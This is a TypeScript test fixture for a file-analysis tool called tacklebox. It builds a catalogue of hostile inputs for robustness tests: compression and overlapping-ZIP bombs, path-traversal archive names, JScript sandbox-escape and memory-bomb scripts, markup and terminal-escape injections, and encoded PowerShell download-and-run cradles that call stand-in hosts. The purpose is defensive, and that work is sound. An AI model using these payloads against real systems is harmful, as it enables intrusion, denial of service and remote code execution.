// Every kind of hostile input tacklebox must survive, in one catalogue: compression and nesting bombs,
// broken MIME, path traversal, scripts that loop, eat memory or try to reach the host, PowerShell bombs,
// broken binaries, and a report whose every field carries markup and terminal escapes. Each case says what the
// report must show for it; the suite in test/hostile.test.ts runs each one in its own measured process.

import { bytes, deepNesting, hugeHeaderLine, manyParts, unclosedBoundary } from './email.ts';
import { makeShortcut } from './lnk.ts';
import { makeOneNote } from './onenote.ts';
import { outlookMsg } from './msg.ts';
import { buildPe, peLayout } from './pe.ts';
import { deflateBombScript, encodedLauncher, nestedEncoded } from './powershell.ts';
import { makeZip, nestedZip, rawZip, storedEntry, zerosZip } from './zip.ts';
import { crc32, deflateRawSync } from 'node:zlib';

export interface HostileCase {
  name: string;
  file: string;
  data: Uint8Array;
  /** The report must carry one of these: limit names (`limit:NAME`) or finding ids (prefix match); [] any report. */
  expect: string[];
  /** A file that exists afterwards only if the input escaped onto the host. */
  canary?: string;
}

const CANARY_DIR = '/tmp';

/** Files named so that a careless extractor or an escaped script would create them. */
export function canaryPath(tag: string, run: string): string {
  return `${CANARY_DIR}/tacklebox-canary-${tag}-${run}`;
}

/** A ZIP whose central directory lists `count` entries that all point at one compressed kernel (Fifield's overlap). */
export function overlappingZip(count: number, kernelBytes: number): Uint8Array {
  const kernel = deflateRawSync(Buffer.alloc(kernelBytes), { level: 9 });
  const crc = crc32(Buffer.alloc(kernelBytes));
  const name = Buffer.from('k.txt');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(crc >>> 0, 14);
  local.writeUInt32LE(kernel.length, 18);
  local.writeUInt32LE(kernelBytes, 22);
  local.writeUInt16LE(name.length, 26);
  const centrals: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    const n = Buffer.from(`file${i}.txt`);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(crc >>> 0, 16);
    c.writeUInt32LE(kernel.length, 20);
    c.writeUInt32LE(kernelBytes, 24);
    c.writeUInt16LE(n.length, 28);
    c.writeUInt32LE(0, 42); // every entry: the same local header at offset 0
    centrals.push(c, n);
  }
  const dir = Buffer.concat(centrals);
  const body = Buffer.concat([local, name, kernel]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(body.length, 16);
  return new Uint8Array(Buffer.concat([body, dir, end]));
}

const text = (s: string) => new TextEncoder().encode(s);

/** A message whose every field a UI or terminal shows carries markup, script and terminal escapes. */
export function markupEverywhere(): string {
  const x = `<script>alert(1)</script><img src=x onerror=alert(2)>\u001b]0;pwned\u0007\u001b[2J`;
  const b64 = Buffer.from(`<html><body onload="alert(3)"><script>alert(4)</script><a href="javascript:alert(5)">${x}</a><img src="http://tracker.example/p.gif"><a href="http://evil.example/a.zip">x</a></body></html>`).toString('base64');
  return [
    `From: "${x}" <attacker@hostile.example>`,
    'To: victim@corp.example',
    `Subject: ${x}`,
    `Message-ID: <${'<script>'}@hostile.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="m"',
    '',
    '--m',
    'Content-Type: text/html',
    'Content-Transfer-Encoding: base64',
    '',
    b64,
    '--m',
    `Content-Type: application/octet-stream; name="${x}.txt"`,
    `Content-Disposition: attachment; filename="${x}.txt"`,
    '',
    x,
    '--m--',
    '',
  ].join('\r\n');
}

export async function hostileCases(run: string): Promise<HostileCase[]> {
  const traversal = canaryPath('zip', run);
  const escape = canaryPath('js', run);
  const brokenPe = buildPe({ dll: true });
  const lfanew = new Uint8Array(brokenPe);
  new DataView(lfanew.buffer).setUint32(0x3c, 0x7ffffff0, true);
  const sections = new Uint8Array(brokenPe);
  new DataView(sections.buffer).setUint16(peLayout(sections).sectionCountAt, 65535, true);
  const bigPe = new Uint8Array(100 * 1024 * 1024);
  bigPe.set(brokenPe.subarray(0, 1024));
  const lnk = makeShortcut({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: '/c calc' });
  const msg = outlookMsg({ subject: 'broken', body: 'broken' });
  const one = makeOneNote([{ name: 'a.js', data: text('WScript.Echo(1)') }]);
  const iso = new Uint8Array(40_000);
  iso.set(text('\u0001CD001\u0001'), 32768);
  iso.fill(0xff, 32776);

  return [
    { name: 'ZIP with a 1 GiB member of zeros', file: 'bomb.zip', data: await zerosZip('zeros.bin', 1024 ** 3), expect: ['limit:maxCompressionRatio', 'limit:maxMemberBytes', 'archive.compression-bomb'] },
    { name: 'ZIP of 2,000 overlapping entries', file: 'overlap.zip', data: overlappingZip(2000, 4 * 1024 * 1024), expect: ['limit:maxArchiveMembers', 'limit:maxArchiveBytes', 'limit:maxCompressionRatio', 'archive.compression-bomb'] },
    { name: 'ZIP in ZIP, 64 deep', file: 'nest.zip', data: await nestedZip(64), expect: ['limit:maxDepth'] },
    {
      name: 'ZIP members named with ../, absolute and Windows paths',
      file: 'traversal.zip',
      data: rawZip([
        storedEntry(`../../../../../../../..${traversal}`, 'escaped'),
        storedEntry('/etc/cron.d/tacklebox-canary', 'escaped'),
        storedEntry('C:\\Windows\\System32\\evil.dll', 'escaped'),
        storedEntry('..\\..\\..\\Users\\Public\\evil.js', 'escaped'),
      ]),
      expect: ['archive.unsafe-member-name'],
      canary: traversal,
    },
    { name: 'MIME nested 300 deep', file: 'deep.eml', data: bytes(deepNesting(300)), expect: ['limit:maxMimeDepth'] },
    { name: 'MIME with 20,000 parts', file: 'parts.eml', data: bytes(manyParts(20_000)), expect: ['limit:maxMimeParts'] },
    { name: 'a 5 MB header line', file: 'header.eml', data: bytes(hugeHeaderLine(5 * 1024 * 1024)), expect: ['limit:maxHeaderBytes'] },
    { name: 'a boundary that never closes', file: 'unclosed.eml', data: bytes(unclosedBoundary(3, 4 * 1024 * 1024)), expect: ['email.mime.unclosed-multipart'] },
    { name: 'an endless loop', file: 'loop.js', data: text('var sh = new ActiveXObject("WScript.Shell"); while (true) { sh.ExpandEnvironmentStrings("%TEMP%"); }'), expect: ['jscript.hostile.endless-loop', 'limit:sandboxTimeMs'] },
    { name: 'a string-doubling memory bomb', file: 'memory.js', data: text('var s = "AAAAAAAA"; while (true) { s = s + s; }'), expect: ['jscript.hostile.memory-bomb', 'limit:sandboxMemoryMiB'] },
    { name: 'unbounded recursion', file: 'recursion.js', data: text('function f(n) { return f(n + 1) + 1; } f(0);'), expect: ['jscript.hostile.recursion'] },
    {
      name: 'a script that reaches for the host',
      file: 'escape.js',
      data: text(
        [
          `try { this.constructor.constructor("return process")().mainModule.require("fs").writeFileSync("${escape}", "x"); } catch (e) {}`,
          `try { require("fs").writeFileSync("${escape}", "x"); } catch (e) {}`,
          `try { import("fs").then(function (fs) { fs.writeFileSync("${escape}", "x"); }); } catch (e) {}`,
          `try { process.binding("fs"); } catch (e) {}`,
          'var sh = new ActiveXObject("WScript.Shell"); sh.Run("calc.exe");',
        ].join('\n'),
      ),
      expect: ['jscript.sandbox.escape-attempt'],
      canary: escape,
    },
    { name: 'a PowerShell deflate bomb', file: 'bomb.ps1', data: text(deflateBombScript(512)), expect: ['limit:maxDecodedBytes'] },
    { name: 'PowerShell nested 10 -enc layers deep', file: 'layers.txt', data: text(nestedEncoded("IEX (New-Object Net.WebClient).DownloadString('http://layers.example/x')", 10)), expect: ['limit:maxDecodedLayers', 'limit:maxDepth'] },
    { name: 'PE with e_lfanew past the end', file: 'lfanew.dll', data: lfanew, expect: ['pe.malformed.'] },
    { name: 'PE claiming 65,535 sections', file: 'sections.dll', data: sections, expect: ['pe.malformed.sections', 'limit:'] },
    { name: 'a 100 MB file with a PE header', file: 'big.dll', data: bigPe, expect: ['limit:maxArtifactBytes', 'pe.'] },
    { name: 'a truncated shortcut', file: 'broken.lnk', data: lnk.subarray(0, 90), expect: ['lnk.malformed', 'engine.analyzer-error'] },
    { name: 'a truncated Outlook message', file: 'broken.msg', data: msg.subarray(0, 1600), expect: ['msg.', 'email.', 'engine.analyzer-error'] },
    { name: 'a truncated OneNote file', file: 'broken.one', data: one.subarray(0, 60), expect: ['onenote.', 'engine.analyzer-error'] },
    { name: 'an ISO with a garbage volume descriptor', file: 'broken.iso', data: iso, expect: ['archive.unreadable', 'engine.analyzer-error'] },
    { name: 'markup and terminal escapes in every field', file: 'markup.eml', data: bytes(markupEverywhere()), expect: [] },
    { name: 'an empty file', file: 'empty.eml', data: new Uint8Array(0), expect: ['engine.empty'] },
    { name: 'random bytes named like a ZIP', file: 'noise.zip', data: crypto.getRandomValues(new Uint8Array(65536)), expect: ['engine.unidentified'] },
    { name: 'a launcher line that runs the chain', file: 'launcher.txt', data: text(encodedLauncher('IEX ((New-Object Net.WebClient).DownloadString("http://stage.example/p"))')), expect: ['powershell.', 'cmdline.'] },
    { name: 'an encrypted ZIP no password opens', file: 'locked.zip', data: await makeZip([{ name: 'secret.js', data: 'WScript.Echo(1)' }], { password: 'nobody-will-guess-this-7731' }), expect: ['archive.encrypted.unopened'] },
  ];
}
